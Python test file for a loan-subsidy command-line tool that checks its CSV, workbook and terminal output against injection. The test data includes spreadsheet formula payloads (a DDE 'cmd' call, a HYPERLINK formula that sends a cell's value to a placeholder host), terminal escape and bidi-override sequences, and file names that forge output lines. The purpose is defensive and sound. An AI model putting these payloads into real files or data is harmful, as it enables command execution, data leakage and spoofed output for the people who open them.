"""Texts from data that a spreadsheet would run or a terminal obey (X-4)."""

import csv
import io
import json
import os
import re
import shutil
import unittest
import zipfile

from damage import SOURCE
from hostile import CONVENTIONS, LOAN, YEARS, HostileCase, plain_book

FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    "+82-1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "'=1",
    "''=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    '="a"',
    "-",
    "%0A=1",
    '=HYPERLINK("http://x/?"&A1)',
    "=IMPORTXML(1)",
    "- 1",
    "-1,5",
    "=1,2",
)


def starts_a_formula(cell):
    """A plain number is none; all else that a spreadsheet may run begins with one of these."""
    return cell[:1] in tuple("=+-@\t\r\n＝＋－＠") and not re.fullmatch(r"-[0-9.]+%?", cell)


class SpreadsheetTest(HostileCase):
    """X-4: in CSV a guard stands before them, in a workbook they are texts; what was guarded is read back as it was."""

    def cells_are_harmless(self, what, data):
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        self.assertTrue(rows, what)
        for row in rows:
            for cell in row:
                self.assertFalse(starts_a_formula(cell), (what, cell, row))
        return rows

    def make_run(self):
        """Every formula as loan_id, payer and bank of a loan that is used, and as one that is held."""
        names = [name for name in FORMULAS if "\t" not in name]
        out = io.StringIO()
        writer = csv.writer(out, lineterminator="\n")
        writer.writerow(LOAN.strip().split(","))
        for name in names:
            writer.writerow([name, "incheon.startup", 10000000, "3.5%", "2018-01-15", 24, "bullet", name, 1, 12, name])
            writer.writerow([name + "-held", name, 10000000, "3.5%", "2018-01-15", 24, "bullet", name, 1, 12, name])
        self.write("=book.csv", out.getvalue())
        answer = self.icha(
            "outlay",
            "=book.csv",
            *YEARS,
            *CONVENTIONS,
            "--rows",
            "--out",
            "run",
            "--by",
            "product,payer,year,bank",
            "--format",
            "csv",
        )
        self.assertEqual(answer.status, 6, answer.err)
        self.cells_are_harmless("outlay", answer.out)
        return names

    def test_tables_of_a_run(self):
        """X-4, M-2, M-4: outlay, claims, rows, held and corrections; replay, prove and report tie out over them."""
        names = self.make_run()
        for name in "outlay.csv", "claims.csv", "rows.csv", "held.csv":
            rows = self.cells_are_harmless(name, (self.folder / "run" / name).read_bytes())
            shown = {cell for row in rows for cell in row}
            for formula in names:  # nothing is lost but for the guard
                self.assertTrue(
                    any(cell.lstrip("'").startswith(formula.lstrip("'")) for cell in shown), (name, formula)
                )
        for words in ("verify", "run", "--replay"), ("replay", "run"), ("prove", "run", "--all"):
            answer = self.icha(*words, "--format", "csv")
            self.assertEqual(answer.status, 0, (words, answer.out, answer.err))
            self.cells_are_harmless(words, answer.out)
        # the claims of this run as paid claims: what was guarded is the same payer and bank again
        answer = self.icha(
            "outlay",
            "=book.csv",
            *YEARS,
            *CONVENTIONS,
            "--out",
            "again",
            "--against",
            "run/claims.csv",
            "--format",
            "json",
        )
        self.assertEqual((answer.status, json.loads(answer.out)["corrections"].get("withheld") is None), (6, False))
        for name in names:
            answer = self.icha("explain", "run", f"--loan={name}", "--format", "csv")
            self.assertEqual(answer.status, 0, (name, answer.err))
            self.cells_are_harmless("explain", answer.out)

    def test_reports(self):
        """X-4, A-5: the long table and the workbook."""
        self.make_run()
        answer = self.icha("report", "run", "--csv", "r.csv", "--xlsx", "r.xlsx")
        self.assertEqual(answer.status, 0, answer.err)
        self.cells_are_harmless("report --csv", (self.folder / "r.csv").read_bytes())
        self.cells_are_harmless("report", self.icha("report", "run", "--format", "csv").out)
        with zipfile.ZipFile(self.folder / "r.xlsx") as book:
            texts = "".join(book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/"))
            self.assertFalse(
                re.search(r"<f[ >]|<ddeLink|<oleLink|<hyperlink", texts)
            )  # no cell is computed, none leads away
            self.assertFalse([name for name in book.namelist() if "externalLink" in name or "vba" in name.lower()])
            strings = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in book.namelist() else texts
            self.assertIn("=IMPORTXML(1)", strings)  # as text

    def test_answers(self):
        """X-4: applicants, series, faults and findings as CSV on the standard output."""
        catalogue = SOURCE / "tests" / "screening" / "catalogue"
        out = io.StringIO()
        writer = csv.writer(out, lineterminator="\n")
        writer.writerow(["applicant_id", "credit.grade", "business.size"])
        for name in FORMULAS:
            if "\t" not in name:
                writer.writerow([name, 6, name])
        self.write("a.csv", out.getvalue())
        answer = self.icha(
            "screen",
            "--batch",
            "a.csv",
            "--product",
            "test.shop-loan",
            "--on",
            "2018-03-14",
            "--catalogue",
            catalogue,
            "--format",
            "csv",
        )
        self.assertEqual(answer.status, 6, answer.err)
        self.cells_are_harmless("screen --batch", answer.out)
        for name in FORMULAS:
            self.write("h.yaml", json.dumps({name: name, "source": name}, ensure_ascii=False))
            for words in ("catalogue", "check"), ("scenario", "check"):
                answer = self.icha(*words, "h.yaml", "--format", "csv")
                self.assertEqual(answer.status, 3)
                self.cells_are_harmless((words, name), answer.out)
        self.make_run()
        for name in FORMULAS:
            (self.folder / "run" / name.replace("/", "_")).write_bytes(b"")
        answer = self.icha("verify", "run", "--format", "csv")
        self.assertEqual(answer.status, 1)
        self.cells_are_harmless("verify", answer.out)

    def test_published_figures(self):
        """X-4, A-5: texts of a scenario in published.csv; what stands there is read back as it was written."""
        good = (SOURCE / "examples" / "scenarios" / "half-a-point.yaml").read_text().replace("1000000000", "20000000")
        figures = "".join(
            f"""
  - id: f{number}
    what: {{en: {json.dumps(name, ensure_ascii=False)}, ko: {json.dumps(name, ensure_ascii=False)}}}
    unit: won
    says: 1
    source: {{document: plan-2018, line: 619, quote: "300백만원"}}
    model: unknown
    why: {{en: {json.dumps(name, ensure_ascii=False)}, ko: "-"}}"""
            for number, name in enumerate(FORMULAS)
            if name == name.strip()
        )
        self.write("s.yaml", good + "published:" + figures + "\n")
        answer = self.icha("scenario", "run", "s.yaml", "--out", "run", "--format", "csv")
        self.assertEqual(answer.status, 0, answer.err)
        self.cells_are_harmless("published.csv", (self.folder / "run" / "published.csv").read_bytes())
        answer = self.icha("report", "run", "--format", "json")
        self.assertEqual(answer.status, 0, answer.err)
        shown = {row["what"] for row in json.loads(answer.out)["published"]}
        self.assertEqual(shown, {name for name in FORMULAS if name == name.strip()})
        self.assertEqual(self.icha("replay", "run").status, 0)
        self.assertEqual(self.icha("prove", "run", "--all").status, 0)


# ---- terminals ----

STEERS = (
    "\x1b[2J",
    "\x1b]0;x\x07",
    "\x9b2J",
    "\u202e",
    "\u2066",
    "\u2069",
    "\u200f",
    "\u061c",
    "\u2028",
    "\x7f",
    "\x08",
)
HARM = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069\u061c]")


class TerminalTest(HostileCase):
    """X-4: no text from data steers the terminal, turns the order of what is read, or forges a line."""

    def harmless(self, *words, language="en"):
        answer = self.icha(*words, "--format", "table", "--lang", language)
        found = HARM.search(answer.text())
        self.assertIsNone(
            found, (words, found, answer.text()[max(0, found.start() - 40) : found.end() + 40] if found else "")
        )
        return answer

    def test_portfolio(self):
        allowed = [s for s in STEERS if s >= "\x80"]  # the others are held, which test_rows shows
        out = io.StringIO()
        writer = csv.writer(out, lineterminator="\n")
        writer.writerow(LOAN.strip().split(","))
        for n, steer in enumerate(STEERS):
            writer.writerow(
                [
                    f"a{steer}{n}",
                    "incheon.startup",
                    10000000,
                    "3.5%",
                    "2018-01-15",
                    24,
                    "bullet",
                    f"p{steer}",
                    1,
                    12,
                    f"b{steer}",
                ]
            )
            writer.writerow(
                [
                    f"h{steer}{n}",
                    f"x{steer}",
                    f"1{steer}",
                    "3.5%",
                    "2018-01-15",
                    24,
                    f"{steer}",
                    "p",
                    1,
                    12,
                    f"b{steer}",
                ]
            )
        self.write("b.csv", out.getvalue())
        self.write(
            "e.csv",
            "loan_id,kind,on,reason\n"
            + "".join(f"a{s}{STEERS.index(s)},stop_subsidy,2018-05-01,r{s}\n" for s in allowed),
        )
        answer = self.harmless("outlay", "b.csv", "--events", "e.csv", *YEARS, *CONVENTIONS, "--rows", "--out", "run")
        self.assertEqual(answer.status, 6, answer.err)
        for words in ("report", "run"), ("verify", "run", "--replay"), ("prove", "run"):
            self.harmless(*words, language="ko")
        with open(self.folder / "run" / "rows.csv", encoding="utf-8", newline="") as file:
            used = {row["loan_id"] for row in csv.DictReader(file)}
        self.assertTrue(used)
        for loan in used:
            self.harmless("explain", "run", "--loan", loan)

    def test_a_hostile_folder(self):
        """M-2: names of files that came, and what a manifest says of itself."""
        self.write("b.csv", plain_book([("a", "x"), ("b", "y")]))
        self.icha("outlay", "b.csv", *YEARS, *CONVENTIONS, "--rows", "--out", "run")
        for steer in STEERS:
            (self.folder / "run" / f"x{steer}\nintegrity: holds").write_bytes(b"")
            (self.folder / "run" / os.fsdecode(b"\xff\x9b" + steer.encode())).write_bytes(b"")
        self.assertEqual(self.harmless("verify", "run").status, 1)
        path = self.folder / "run" / "manifest.json"
        whole = json.loads(path.read_text())
        for steer in STEERS:
            for change in (
                lambda m: m.update(assumptions=[f"a{steer}\nschema: holds"]),
                lambda m: m["determinants"].update(command=f"outlay{steer}"),
                lambda m: m.update(schema=f"x{steer}"),
                lambda m: m["determinants"]["assumptions"][0].update(name=f"n{steer}"),
                lambda m: m["results"][0].update(file=f"o{steer}.csv"),
                lambda m: m["determinants"].update(options={f"k{steer}": f"v{steer}"}),
                lambda m: m["counts"].update({f"k{steer}": steer}),
                lambda m: m.update(run_id=f"r{steer}"),
            ):
                manifest = json.loads(json.dumps(whole))
                change(manifest)
                path.write_text(json.dumps(manifest, ensure_ascii=False, indent=2) + "\n")
                for command in "verify", "report", "replay":
                    self.assertNotEqual(self.harmless(command, "run").status, 0)

    def test_documents_and_catalogues(self):
        """Keys and values of TERMS and FACTS, names in a catalogue, texts of a scenario."""
        shop = SOURCE / "tests" / "screening" / "catalogue"
        good = (SOURCE / "examples" / "scenarios" / "half-a-point.yaml").read_text()
        shutil.copytree(SOURCE / "tests" / "alloc" / "catalogue", self.folder / "shop")
        product = self.folder / "shop" / "products" / "t.loan.yaml"
        text = product.read_text()
        for steer in STEERS:
            for document in (
                {f"k{steer}\nx": 1},
                {"principal": f"1{steer}"},
                {"product": f"p{steer}"},
                {"rate": f"{steer}%"},
                {"index": {"series": steer}},
            ):
                self.write("t.json", json.dumps(document))
                self.assertEqual(self.harmless("schedule", "t.json").status, 3)
                self.assertEqual(self.harmless("late", "t.json").status, 3)
                self.assertEqual(
                    self.harmless(
                        "screen", "t.json", "--product", "test.shop-loan", "--on", "2018-03-14", "--catalogue", shop
                    ).status,
                    3,
                )
            for changed in (
                good.replace("id: half-a-point", f"id: {json.dumps(steer)}"),
                good + f"{json.dumps('k' + steer)}: 1\n",
                good.replace("Subsidy lower", f"S{json.dumps(steer)[1:-1]}"),
                good.replace("mode: expected", f"mode: {json.dumps(steer)}"),
            ):
                self.write("s.yaml", changed)
                for words in ("check", "s.yaml"), ("run", "s.yaml", "--out", "out"):
                    self.harmless("scenario", *words)
                shutil.rmtree(self.folder / "out", ignore_errors=True)
            product.write_text(
                re.sub(r"name: \{ko: [^,}]*", lambda found: "name: {ko: " + json.dumps("x" + steer), text, count=1)
            )
            for words in ("products",), ("show", "t.loan"), ("show", f"t{steer}"):
                self.harmless(*words, "--catalogue", "shop", language="ko")
            self.harmless("catalogue", "check", product.relative_to(self.folder))
            self.harmless(f"x{steer}")


if __name__ == "__main__":
    unittest.main()
